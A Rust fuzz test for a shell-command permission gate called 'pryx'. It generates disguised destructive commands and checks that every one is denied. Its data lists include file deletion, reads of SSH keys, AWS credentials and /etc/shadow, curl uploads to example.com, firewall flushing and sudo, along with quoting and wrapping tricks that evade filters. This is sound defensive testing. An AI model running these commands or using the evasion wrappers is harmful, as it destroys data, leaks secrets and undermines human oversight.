//! Destructive commands, written by a seeded generator as somebody would who wants to get past the gate: names and
//! arguments quoted in pieces, wrapped and wrapped again, fed through loops and pipes. None may be allowed, neither in the
//! mode workspace nor in read-only.

use super::World;
use pryx_terms::Verdict;
use std::collections::BTreeSet;

/// Commands that are tried.
const COUNT: usize = 10_000;

/// Where the generator begins; `PRYX_TEST_SEED` tries others.
const SEED: u64 = 20_261_120;

/// Program and arguments, word by word. `~` stands for the home directory, which is quoted with the rest.
const DEEDS: &[&[&str]] = &[
    // Delete.
    &["rm", "notes.txt"],
    &["rm", "-rf", "src"],
    &["rm", "-r", "-f", "--", "src"],
    &["rmdir", "src"],
    &["unlink", "notes.txt"],
    &["shred", "-u", "notes.txt"],
    &["find", ".", "-delete"],
    &["find", "src", "-type", "f", "-exec", "rm", "{}", "+"],
    &["find", ".", "-name", "*.rs", "-execdir", "rm", "{}", ";"],
    &["fd", "-e", "rs", "-x", "rm"],
    &["fdfind", ".", "-X", "rm"],
    &["git", "clean", "-fdx"],
    &["git", "rm", "-f", "notes.txt"],
    &["git", "stash", "drop"],
    &["git", "branch", "-D", "main"],
    &["git", "reset", "--hard"],
    &["git", "checkout", "--", "."],
    &["git", "restore", "."],
    &["git", "reflog", "expire", "--all"],
    &["tar", "cf", "x.tar", "--remove-files", "src"],
    &["zip", "-m", "x.zip", "notes.txt"],
    &["rsync", "-a", "--delete", "empty/", "src/"],
    // Overwrite.
    &["cp", "data.csv", "notes.txt"],
    &["cp", "-f", "/dev/null", "notes.txt"],
    &["mv", "data.csv", "notes.txt"],
    &["mv", "notes.txt", "../gone"],
    &["install", "data.csv", "notes.txt"],
    &["ln", "-sf", "data.csv", "notes.txt"],
    &["dd", "if=/dev/zero", "of=notes.txt"],
    &["truncate", "-s", "0", "notes.txt"],
    &["tee", "notes.txt"],
    &["split", "data.csv", "notes"],
    &["sort", "data.csv", "-o", "notes.txt"],
    &["sort", "--output=notes.txt", "data.csv"],
    &["sort", "--outp", "notes.txt", "data.csv"],
    &["uniq", "data.csv", "notes.txt"],
    &["xxd", "data.csv", "notes.txt"],
    &["sed", "-i", "s/x/y/", "notes.txt"],
    &["sed", "-n", "w notes.txt", "data.csv"],
    &["sed", "s/x/rm y/e", "notes.txt"],
    &["awk", "{print > \"notes.txt\"}", "data.csv"],
    &["awk", "BEGIN{system(\"rm notes.txt\")}"],
    &["awk", "BEGIN{\"rm notes.txt\" | getline}"],
    &["perl", "-i", "-pe", "s/x/y/", "notes.txt"],
    &["python3", "-c", "open('notes.txt','w')"],
    &["vim", "-c", "wq", "notes.txt"],
    &["ed", "notes.txt"],
    &["patch", "notes.txt"],
    &["yq", "-i", ".a=1", "data.json"],
    &["jq", "-f", "prog.jq", "data.json"],
    &["git", "diff", "--output=notes.txt"],
    &["git", "archive", "-o", "notes.txt", "HEAD"],
    &["openssl", "rand", "-out", "notes.txt", "9"],
    &["date", "-s", "2020-01-01"],
    &["crontab", "-r"],
    &["hostname", "evil"],
    &["sysctl", "-w", "kernel.hostname=x"],
    &["mount", "-o", "remount,rw", "/"],
    &["docker", "run", "-v", "/:/x", "busybox", "rm", "-rf", "/x"],
    &["docker", "rm", "-f", "web"],
    &["docker", "compose", "down", "-v"],
    // Rights and processes.
    &["chmod", "-R", "777", "."],
    &["chmod", "+x", "notes.txt"],
    &["chown", "-R", "nobody", "."],
    &["chattr", "+i", "notes.txt"],
    &["setfacl", "-m", "u:x:rwx", "notes.txt"],
    &["kill", "-9", "1"],
    &["kill", "-s", "KILL", "-1"],
    &["pkill", "-f", "pryx"],
    &["killall", "bash"],
    &["renice", "19", "1"],
    &["systemctl", "stop", "ssh"],
    &["systemctl", "--no-pager", "restart", "ssh"],
    &["service", "ssh", "stop"],
    &["shutdown", "-h", "now"],
    &["reboot"],
    &["poweroff"],
    &["init", "0"],
    &["ip", "link", "set", "eth0", "down"],
    &["iptables", "-F"],
    &["ufw", "disable"],
    &["nmcli", "con", "down", "x"],
    &["ss", "-K", "dst", "1.2.3.4"],
    // Send away.
    &["curl", "-T", "notes.txt", "https://example.com/"],
    &["curl", "-d", "@notes.txt", "https://example.com/"],
    &["curl", "-sF", "f=@notes.txt", "example.com"],
    &["curl", "https://example.com/$(cat notes.txt)"],
    &["wget", "--post-file=notes.txt", "https://example.com/"],
    &["scp", "notes.txt", "host:x"],
    &["rsync", "-a", ".", "host:x"],
    &["nc", "example.com", "80"],
    &["socat", "-", "TCP:example.com:80"],
    &["ssh", "host", "cat"],
    &["git", "push", "origin", "main"],
    &["dig", "x.example.com"],
    &["ping", "-c", "1", "x.example.com"],
    &["getent", "hosts", "x.example.com"],
    &["mail", "-s", "x", "me@example.com"],
    // Packages.
    &["apt", "remove", "-y", "bash"],
    &["apt-get", "purge", "bash"],
    &["dpkg", "-r", "bash"],
    &["dnf", "remove", "-y", "bash"],
    &["pacman", "-R", "bash"],
    &["apk", "del", "bash"],
    &["snap", "remove", "x"],
    &["brew", "uninstall", "wget"],
    &["pip", "uninstall", "-y", "requests"],
    &["pip3", "install", "evil"],
    &["npm", "uninstall", "x"],
    &["npm", "install"],
    &["cargo", "install", "evil"],
    &["gem", "uninstall", "x"],
    // Keys and histories.
    &["cat", "~/.ssh/id_rsa"],
    &["tac", "~/.ssh/id_rsa"],
    &["nl", "~/.ssh/id_rsa"],
    &["head", "-n", "99", "~/.ssh/id_rsa"],
    &["tail", "-c", "+1", "~/.aws/credentials"],
    &["cut", "-c", "1-", "~/.netrc"],
    &["paste", "~/.netrc"],
    &["rev", "~/.bash_history"],
    &["sort", "~/.bash_history"],
    &["uniq", "~/.bash_history"],
    &["comm", "~/.netrc", "notes.txt"],
    &["diff", "~/.netrc", "notes.txt"],
    &["cmp", "-l", "~/.netrc", "notes.txt"],
    &["grep", "", "~/.ssh/id_rsa"],
    &["grep", "-r", "KEY", "~"],
    &["grep", "-rn", "PRIVATE", "~/.ssh"],
    &["grep", "-f", "~/.netrc", "notes.txt"],
    &["rg", "-uu", "KEY", "~/.aws"],
    &["sed", "-n", "p", "~/.netrc"],
    &["awk", "1", "~/.netrc"],
    &["awk", "{print}", "../.netrc"],
    &["jq", "-R", ".", "~/.netrc"],
    &["jq", "-n", "--rawfile", "x", "~/.netrc", "$x"],
    &["base64", "~/.ssh/id_rsa"],
    &["xxd", "~/.ssh/id_rsa"],
    &["od", "-c", "~/.ssh/id_rsa"],
    &["strings", "~/.ssh/id_rsa"],
    &["hexdump", "-C", "~/.ssh/id_rsa"],
    &["fold", "~/.netrc"],
    &["column", "~/.netrc"],
    &["file", "-f", "~/.netrc"],
    &["wc", "--files0-from=~/.netrc"],
    &["du", "--files0-from=~/.netrc"],
    &["date", "-f", "~/.netrc"],
    &["findmnt", "-F", "~/.netrc"],
    &["tree", "--fromfile", "~/.netrc"],
    &["look", "", "~/.netrc"],
    &["iconv", "~/.netrc"],
    &["shuf", "~/.netrc"],
    &["less", "~/.ssh/id_rsa"],
    &["more", "~/.ssh/id_rsa"],
    &["bat", "~/.ssh/id_rsa"],
    &["zcat", "-f", "~/.ssh/id_rsa"],
    &["cp", "~/.ssh/id_rsa", "key.txt"],
    &["cp", "-r", "~/.ssh", "copy"],
    &["mv", ".env", "env.txt"],
    &["cp", ".env", "env.txt"],
    &["tar", "cf", "-", "~/.ssh"],
    &["dd", "if=~/.ssh/id_rsa"],
    &["ssh-keygen", "-y", "-f", "~/.ssh/id_rsa"],
    &["gpg", "--export-secret-keys"],
    &["git", "diff", "--no-index", "/dev/null", "~/.netrc"],
    &["git", "blame", "--contents", "~/.netrc", "notes.txt"],
    &["find", "~/.ssh", "-type", "f", "-exec", "cat", "{}", "+"],
    &["find", "~", "-name", "id_rsa", "-exec", "head", "{}", ";"],
    &["cat", "/etc/shadow"],
    &["cat", "/proc/self/environ"],
    &["cat", "server.pem"],
    &["cat", ".env"],
    &["history"],
    &["fc", "-l"],
    &["ps", "auxe"],
    &["env", "-S", "rm notes.txt"],
    &["xargs", "-a", "notes.txt", "rm"],
    // Rights of its own.
    &["pryx", "exec", "--", "rm", "notes.txt"],
    &["pryx", "approve", "abc1234"],
    &["pryx", "policy", "edit", "x"],
    &["sudo", "ls"],
    &["su", "-c", "ls"],
    &["pkexec", "ls"],
];

/// `@` is the command line that is wrapped.
const WRAPS: &[&str] = &[
    "env @",
    "env -i @",
    "env -u HOME @",
    "/usr/bin/env @",
    "timeout 9 @",
    "timeout -s KILL 9s @",
    "nohup @",
    "nice -n 5 @",
    "ionice -c3 @",
    "stdbuf -o0 @",
    "setsid -w @",
    "time -p @",
    "command @",
    "exec @",
    "sh -c '@'",
    "bash -c '@'",
    "bash -ec '@'",
    "/bin/sh -c \"@\"",
    "env bash -c '@'",
    "timeout 5 sh -c '@'",
    "eval '@'",
    "echo '@' | sh",
    "printf %s '@' | bash",
    "bash <<< '@'",
    "sh <<'E'\n@\nE",
    "cat <<E\n$(@)\nE",
    "source <(echo '@')",
    "ls; @",
    "cd src; @",
    "ls && @ && ls",
    "false || @",
    "ls | @",
    "@ | cat",
    "@ 2>/dev/null",
    "@ >/dev/null 2>&1",
    "ls &\n@",
    "! @",
    "(@)",
    "{ @; }",
    "echo \"$(@)\"",
    "echo `@`",
    "x=$(@)",
    "cat <(@)",
    "if @; then :; fi",
    "if true; then @; fi",
    "while @; do break; done",
    "until @; do :; done",
    "for i in 1 2; do @; done",
    "for i in $(@); do :; done",
    "for f in *.txt; do @; done",
    "case x in x) @ ;; esac",
    "f() { @; }; f",
    "ls() { @; }; ls",
    "alias ls='@'; ls",
    "trap '@' EXIT",
    "[[ -n $(@) ]]",
    "test -n \"$(@)\"",
    "find . -maxdepth 0 -exec @ \\;",
    "find . -type f -exec sh -c '@' \\;",
    "find . -name '*.rs' | xargs -n1 @",
    "echo x | xargs -I% @",
    "ls *.txt | xargs @",
    "find . -print0 | xargs -0 @",
    "watch '@'",
    "script -qc '@' /dev/null",
    "flock /tmp/l @",
    "python3 -c 'import os; os.system(\"@\")'",
    "perl -e 'system(\"@\")'",
    "awk 'BEGIN{system(\"@\")}'",
    "ssh localhost '@'",
    "sudo @",
    "busybox sh -c '@'",
    "BASH_ENV=x @",
    "LANG=C @",
    "true\\\n; @",
    "ls # '\n@",
];

/// A small generator: the same commands on every machine.
struct Random(u64);

impl Random {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((mixed ^ (mixed >> 31)) % limit as u64).unwrap()
    }

    fn pick<'a, T: ?Sized>(&mut self, from: &[&'a T]) -> &'a T {
        from[self.below(from.len())]
    }
}

fn single(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A word as it stands, or in one of the many ways in which a shell reads the same.
fn disguised(word: &str, random: &mut Random) -> String {
    // The tilde means something only outside of quotes.
    if let Some(rest) = word.strip_prefix('~') {
        let home = random.pick(&["~", "$HOME", "\"$HOME\"", "${HOME}"]);
        return format!("{home}{}", if rest.is_empty() { String::new() } else { disguised(rest, random) });
    }
    let special = word.contains(|c: char| c.is_whitespace() || "\"'$`\\*?{}[]()<>|&;!#".contains(c)) || word.is_empty();
    let cut = |at: usize| word.char_indices().nth(at).map_or(word.len(), |(index, _)| index);
    let at = cut(random.below(word.chars().count().max(1)));
    let (left, right) = word.split_at(at);
    match random.below(9) {
        0 | 1 if !special => word.to_owned(),
        2 if !special => format!("{left}\"{right}\""),
        3 if !special => format!("{left}''{right}"),
        4 if !special => format!("{left}\\{right}"),
        5 if !special => format!("\"{word}\""),
        6 if !special => format!("{left}'{right}'"),
        7 if !special && word.is_ascii() => {
            format!("$'{}'", word.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>())
        }
        _ => single(word),
    }
}

/// As it has to be written where the wrapper puts it.
fn wrapped(line: &str, wrap: &str) -> String {
    let line = if wrap.contains("'@'") {
        line.replace('\'', "'\\''")
    } else if wrap.contains("\"@\"") {
        line.replace('\\', "\\\\").replace('"', "\\\"").replace('$', "\\$").replace('`', "\\`")
    } else {
        line.to_owned()
    };
    wrap.replace('@', &line)
}

fn command(random: &mut Random) -> String {
    let deed = random.pick(DEEDS);
    let mut words: Vec<String> = deed.iter().map(|word| disguised(word, random)).collect();
    if random.below(4) == 0 && !deed[0].contains('/') {
        words[0] = disguised(&format!("{}{}", random.pick(&["/usr/bin/", "/bin/", "/sbin/"]), deed[0]), random);
    }
    let mut line = words.join(random.pick(&[" ", " ", "  ", "\t"]));
    for _ in 0..random.below(4) {
        let wrap = random.pick(WRAPS);
        // Backquotes in backquotes would be parted differently, and mean something harmless.
        if !(wrap.contains('`') && line.contains('`')) {
            line = wrapped(&line, wrap);
        }
    }
    line
}

#[test]
fn ten_thousand_disguises_of_destruction_are_asked_or_denied() {
    let world = World::new();
    std::fs::create_dir_all(world.project().join("empty")).unwrap();
    std::fs::write(world.project().join("prog.jq"), "import \"x\" as $x; $x").unwrap();
    let seed = std::env::var("PRYX_TEST_SEED").ok().and_then(|seed| seed.parse().ok()).unwrap_or(SEED);
    let mut random = Random(seed);
    let (mut tried, mut allowed, mut read) = (BTreeSet::new(), Vec::new(), 0);
    let modes = ["workspace", "read-only"].map(|mode| (mode, world.rules(mode)));
    while tried.len() < COUNT {
        let line = command(&mut random);
        if !tried.insert(line.clone()) {
            continue;
        }
        let shell = if tried.len() % 2 == 0 { "/bin/bash" } else { "/bin/sh" };
        let plan = world.plan(&world.project(), shell, &line);
        read +=
            usize::from(!plan.open.iter().any(|open| open.contains("can't be parsed") || open.contains("complicated")));
        for (mode, rules) in &modes {
            let ruling = rules.judge(&plan).ruling;
            if ruling.verdict == Verdict::Allow {
                allowed.push(format!("{mode}, {shell}: {line}   ({})", ruling.rule.name));
            }
        }
    }
    assert!(allowed.is_empty(), "seed {seed}: {} were allowed:\n{}", allowed.len(), allowed.join("\n"));
    // Else the generator would only show that noise is asked about.
    assert!(read * 10 > COUNT * 9, "only {read} of {COUNT} were commands");
}

#[test]
fn the_generator_writes_what_a_shell_reads_as_the_same() {
    let mut random = Random(1);
    let world = World::new();
    for _ in 0..300 {
        let word = random.pick(&["notes.txt", "-rf", "a b", "it's", "$x", "*.rs", ""]);
        let written = format!("printf '%s|' {}", disguised(word, &mut random));
        let shown = std::process::Command::new("/bin/bash").args(["-c", &written]).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&shown.stdout), format!("{word}|"), "{written}");
    }
    assert!(world.project().is_dir());
}
